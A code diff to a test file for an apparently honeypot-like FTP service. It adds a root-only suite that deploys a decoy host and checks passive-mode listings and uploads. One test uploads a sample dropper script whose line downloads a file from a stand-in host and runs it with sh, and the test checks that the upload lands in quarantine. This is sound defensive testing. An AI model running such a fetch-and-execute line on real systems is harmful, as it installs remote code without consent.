@@ -4,15 +4,18 @@
  */
 import { execFile } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { connect } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
-import { afterEach, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { installationTag } from '../../src/fabric/netns/names.js';
 import { ftp } from '../../src/services/ftp/index.js';
 import { seededTree } from '../../src/services/ftp/tree.js';
 import { type Served, serveTcp, TestClient, testPersona } from '../../src/services/testing.js';
+import { eventually, freePort, type Running, runDecnet, scratchHome, startDecnet } from '../support/cli.js';
+import { installationLeftovers } from '../support/netns.js';
 
 const run = promisify(execFile);
 const served: Served[] = [];
@@ -216,7 +219,7 @@ describe('ftp dialogue', () => {
     expect(sink.lines.join('\n')).not.toContain('hunter2-after-login');
   });
 
-  it("answers 425 to PASV when the decky's address cannot be bound here (the netns driver)", async () => {
+  it("answers 425 to PASV and EPSV when no listener can be opened on the decky's address", async () => {
     // 203.0.113.5 (TEST-NET-3) is on no interface of this host: listen() fails with EADDRNOTAVAIL.
     const s = await serveTcp(ftp, { decky: testPersona({ ip: '203.0.113.5' }) });
     served.push(s);
@@ -343,4 +346,76 @@ describe('ftp against attack tools', () => {
     await client.end();
     expect(errors).toEqual([]);
   }, 120_000);
+});
+
+describe.skipIf(process.getuid?.() !== 0)('ftp passive mode on a netns decky (root)', () => {
+  const home = scratchHome();
+  const env = { DECNET_HOME: home };
+  const subnet = `10.${200 + Math.floor(Math.random() * 50)}.${Math.floor(Math.random() * 250)}.0/24`;
+  let up: Running;
+  let decky: { name: string; ip: string };
+
+  beforeAll(async () => {
+    const apiPort = await freePort();
+    up = startDecnet(
+      ['up', '--port', String(apiPort), '--driver', 'netns', '--services', 'ftp', '--subnet', subnet],
+      env,
+    );
+    await eventually(
+      async () => (await fetch(`http://127.0.0.1:${apiPort}/api/v1/health`)).status === 200,
+      'health 200',
+      30_000,
+    );
+    const status = await runDecnet(['status', '--json'], env);
+    const [deployed] = JSON.parse(status.stdout) as Array<{ name: string; ip: string }>;
+    if (!deployed) throw new Error(`no decky deployed: ${status.stdout} ${up.output()}`);
+    decky = deployed;
+  }, 60_000);
+
+  afterAll(async () => {
+    // Through the running instance: one killed first would leave its namespace until the next `up`.
+    await runDecnet(['teardown', '--all'], env).catch(() => undefined);
+    if (up.child.exitCode === null) {
+      const stuck = setTimeout(() => up.child.kill('SIGKILL'), 10_000);
+      up.child.kill('SIGTERM');
+      await up.exited;
+      clearTimeout(stuck);
+    }
+    expect(await installationLeftovers(installationTag(home))).toEqual([]);
+    rmSync(home, { recursive: true, force: true });
+  }, 60_000);
+
+  it('lists the tree to curl over EPSV and over PASV, the data port opened in the namespace', async () => {
+    for (const extra of [[], ['--disable-epsv']]) {
+      const list = await curl([...extra, `ftp://${decky.ip}/`, '--user', 'root:123456']);
+      expect(list.code, `${extra.join(' ')}: ${up.output()}`).toBe(0);
+      expect(list.stdout).toMatch(/ incoming\r?\n/);
+      expect(list.stdout).toMatch(/ pub\r?\n/);
+    }
+  });
+
+  it('takes an lftp upload over PASV, serves it back in the session and keeps it in quarantine', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'ftp-netns-'));
+    scratch.push(dir);
+    const body = '#!/bin/sh\nwget -q http://198.51.100.7/x -O /tmp/x && sh /tmp/x\n';
+    writeFileSync(join(dir, 'dropper.sh'), body);
+    const script = [
+      'set ftp:ssl-allow no',
+      'set ftp:passive-mode on',
+      'set ftp:prefer-epsv no',
+      'set net:max-retries 1',
+      'set net:timeout 10',
+      `open -u root,123456 ftp://${decky.ip}`,
+      `put ${join(dir, 'dropper.sh')} -o /incoming/dropper.sh`,
+      'cat /incoming/dropper.sh',
+    ].join('; ');
+    const { stdout } = await run('lftp', ['-c', script], { timeout: 60_000 });
+    expect(stdout).toBe(body);
+    const captures = join(home, 'captures', decky.name);
+    const stored = await eventually(
+      () => readdirSync(captures).find((f) => readFileSync(join(captures, f), 'utf8') === body),
+      'the upload in quarantine',
+    );
+    expect(stored).toBeDefined();
+  }, 60_000);
 });
